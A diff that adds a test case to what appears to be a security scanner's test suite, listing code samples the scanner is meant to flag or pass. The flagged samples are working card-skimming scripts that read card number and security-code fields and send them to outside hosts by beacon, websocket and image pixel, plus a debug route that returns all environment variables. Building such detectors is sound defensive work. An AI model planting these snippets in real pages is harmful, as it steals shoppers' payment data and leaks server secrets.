@@ -182,6 +182,19 @@ const CASES: AppsecCase[] = [
     ],
   },
   {
+    id: "data.card_fields_sent_out_indirect",
+    block: [
+      `var E = "https://metrics.cdn-stat.io/c";\nform.addEventListener("submit", function () {\n  var x = [form.querySelector("#cc-number").value, form.querySelector("#cc-csc").value];\n  window["navigator"]["sendBeacon"](E, btoa(x.join(";")));\n});\n`,
+      `const sink = 'wss://live.chat-widget.app/ws';\ndocument.getElementById('card_no').onblur = (e) => {\n  const ws = new WebSocket(sink); ws.onopen = () => ws.send(e.target.value);\n};\n`,
+      `let px = "//px.ad-measure.net/i.gif?q=";\n$("#pay").on("change", "input", () => {});\ndocument.forms[0].addEventListener('change', () => { const i = new Image(); i.src = px + encodeURIComponent(document.querySelector('[name=cardnumber]').value); });\n`,
+    ],
+    pass: [
+      `const API = "/api/checkout";\nform.addEventListener("submit", async () => {\n  await fetch(API, { method: "POST", body: JSON.stringify({ n: form.querySelector("#cc-number").value }) });\n});\n`,
+      `// docs: https://docs.example.com/forms\nform.addEventListener("change", () => validate(form.querySelector("#cc-number").value));\n`,
+      `const stripe = Stripe("pk_test_x"); const u = "https://js.stripe.com/v3";\ncard.addEventListener("change", (e) => { errors.textContent = e.error ? e.error.message : ""; });\nfetch(u);\n`,
+    ],
+  },
+  {
     id: "data.env_in_response",
     block: [
       `app.get('/debug', (req, res) => res.json(process.env));\n`,
